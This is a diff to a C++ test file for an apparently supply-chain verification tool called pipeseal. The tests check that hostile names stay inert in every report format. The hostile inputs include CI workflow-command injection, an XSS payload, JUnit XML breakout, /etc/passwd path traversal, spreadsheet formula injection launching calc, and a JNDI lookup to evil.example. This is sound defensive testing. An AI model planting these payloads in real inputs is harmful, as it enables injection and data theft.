@@ -2,11 +2,16 @@
 #include <doctest/doctest.h>
 
 #include <algorithm>
+#include <cstdlib>
+#include <filesystem>
+#include <fstream>
+#include <iterator>
 #include <string>
 
 #include "pipeseal/base/escape.h"
 #include "pipeseal/base/utf8.h"
 #include "pipeseal/encoding/node.h"
+#include "pipeseal/encoding/xml_document.h"
 #include "pipeseal/report/report.h"
 #include "pipeseal/verify/rules.h"
 
@@ -34,6 +39,18 @@ constexpr std::string_view kHostile[] = {
     "\"quoted\", {\"a\": 1}",
     "\u0085next\u009b31m",
     std::string_view("nul\0byte", 8),
+    "::set-output name=x::y",
+    "%0A::error::owned%0D,line=1",
+    "--><img src=x onerror=alert(1)>",
+    "![beacon](https://evil.example/x.png) [link](https://evil.example) @everyone",
+    "]]></failure></testcase><testcase name=\"passed\"/>",
+    "\"><testcase classname='x'/>",
+    "file:///etc/passwd",
+    "..%2f..%2f..%2fetc/passwd",
+    "=HYPERLINK(\"https://evil.example\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "%s%n{0}{{1}}${jndi:ldap://evil.example}",
+    "``` fence",
 };
 
 // `text` wherever a report holds something that came from evidence.
@@ -56,8 +73,25 @@ Report ReportOf(std::string_view hostile) {
   return report;
 }
 
+// A workflow command that the format itself makes: the runner finds nothing in its properties but these.
+bool IsOwnCommand(std::string_view line) {
+  for (const std::string_view name : {"::error ", "::warning ", "::notice "}) {
+    if (!line.starts_with(name)) continue;
+    const std::string_view properties = line.substr(name.size(), line.find("::", name.size()) - name.size());
+    if (!properties.starts_with("file=") || properties.contains('\r')) return false;
+    std::string names;
+    for (std::string_view rest = properties; !rest.empty();) {
+      const std::string_view property = rest.substr(0, rest.find(','));
+      names += std::string(property.substr(0, property.find('='))) + " ";
+      rest.remove_prefix(std::min(property.size() + 1, rest.size()));
+    }
+    return names == "file line endLine title " || names == "file title ";
+  }
+  return false;
+}
+
 // What a terminal or a CI system would act on, or nothing.
-std::string FindActive(std::string_view text) {
+std::string FindActive(std::string_view text, bool has_commands) {
   if (!IsValidUtf8(text)) return "bytes that are not UTF-8";
   for (std::string_view rest = text; !rest.empty();) {
     const CodePoint c = DecodeUtf8(rest);
@@ -67,7 +101,8 @@ std::string FindActive(std::string_view text) {
   for (std::size_t at = 0; at < text.size();) {
     const std::string_view line = text.substr(at, text.find('\n', at) - at);
     const std::size_t first = line.find_first_not_of(' ');
-    if (first != std::string_view::npos && line.substr(first).starts_with("::"))
+    const bool is_command = first != std::string_view::npos && line.substr(first).starts_with("::");
+    if (is_command && !(has_commands && IsOwnCommand(line)))
       return "a workflow command";
     // Both are read anywhere in a line.
     if (line.contains("##[") || line.contains("##vso["))
@@ -81,16 +116,41 @@ std::size_t Count(std::string_view text, char c) {
   return static_cast<std::size_t>(std::ranges::count(text, c));
 }
 
-TEST_CASE("no format lets a hostile name act") {
+void CheckInert(std::string_view hostile) {
   for (const Format& format : Formats())
-    for (const std::string_view hostile : kHostile)
-      for (const bool verbose : {false, true}) {
-        CAPTURE(format.name);
-        CAPTURE(EscapeForTerminal(hostile));
-        const std::string text = format.render(ReportOf(hostile), {.verbose = verbose});
-        CHECK(FindActive(text) == "");
-        CHECK(text.ends_with('\n'));
-      }
+    for (const bool verbose : {false, true}) {
+      CAPTURE(format.name);
+      CAPTURE(EscapeForTerminal(hostile));
+      const std::string text = format.render(ReportOf(hostile), {.verbose = verbose});
+      CHECK(FindActive(text, format.name == "github") == "");
+      CHECK(text.ends_with('\n'));
+    }
+}
+
+TEST_CASE("no format lets a hostile name act") {
+  for (const std::string_view hostile : kHostile) CheckInert(hostile);
+}
+
+void CheckTexts(const encoding::Node& node) {
+  if (node.is(encoding::Kind::kString)) CheckInert(node.text());
+  for (const encoding::Node* element : node.elements()) CheckTexts(*element);
+  for (const encoding::Member& member : node.members()) {
+    CheckInert(member.key);
+    CheckTexts(*member.value);
+  }
+}
+
+TEST_CASE("no format lets the names of the conformance kit act") {
+  const char* kit = std::getenv("PIPESEAL_CONFORMANCE");
+  if (kit == nullptr) return;
+  std::size_t files = 0;
+  for (const auto& entry : std::filesystem::directory_iterator(std::string(kit) + "/hostile/report")) {
+    std::ifstream file(entry.path(), std::ios::binary);
+    const auto document = encoding::Document::ParseJson(std::string(std::istreambuf_iterator<char>(file), {}));
+    if (document) CheckTexts(document->root());  // what cannot be read reaches no report
+    ++files;
+  }
+  CHECK(files > 10);
 }
 
 TEST_CASE("a hostile name does not change how many lines a report has") {
@@ -102,6 +162,32 @@ TEST_CASE("a hostile name does not change how many lines a report has") {
       CHECK(Count(format.render(ReportOf(hostile), {}), '\n') == lines);
     }
   }
+}
+
+// Names and attributes of elements, in order: what markup there is.
+std::string ShapeOf(const encoding::XmlElement& element) {
+  std::string shape(element.name());
+  for (const auto& attribute : element.attributes()) shape += " " + std::string(attribute.name());
+  shape += "(";
+  for (const auto& child : element.children()) shape += ShapeOf(child);
+  return shape + ")";
+}
+
+TEST_CASE("a hostile name changes no markup of a JUnit report") {
+  const auto plain = encoding::XmlDocument::Parse(RenderJUnit(ReportOf("harmless"), {}));
+  REQUIRE(plain);
+  for (const std::string_view hostile : kHostile) {
+    CAPTURE(EscapeForTerminal(hostile));
+    const auto document = encoding::XmlDocument::Parse(RenderJUnit(ReportOf(hostile), {}));
+    REQUIRE_MESSAGE(document, document.error().message());
+    CHECK(ShapeOf(document->root()) == ShapeOf(plain->root()));
+  }
+}
+
+TEST_CASE("a hostile name leaves reports in JSON valid") {
+  for (const std::string_view hostile : kHostile)
+    for (const auto render : {RenderJson, RenderSarif, RenderGitLab})
+      CHECK(encoding::Document::ParseJson(render(ReportOf(hostile), {})));
 }
 
 TEST_CASE("the only escape sequences of a text report are its own colours") {
@@ -172,6 +258,9 @@ TEST_CASE("a JSON report says what was there, for programs") {
     CHECK(TextOf(finding, "rule") == "step/material-differs");
     CHECK(TextOf(finding, "severity") == "error");
     CHECK(TextOf(finding, "message") == told);
+    CHECK(TextOf(finding, "file") == told);
+    CHECK(TextOf(finding, "line") == "2");
+    CHECK(TextOf(finding, "column") == "3");
     CHECK(finding.Find("locations")->elements().size() == 2);
     CHECK(TextOf(*finding.Find("locations")->elements().front(), "line") == "2");
     CHECK(finding.Find("locations")->elements().back()->Find("line") == nullptr);
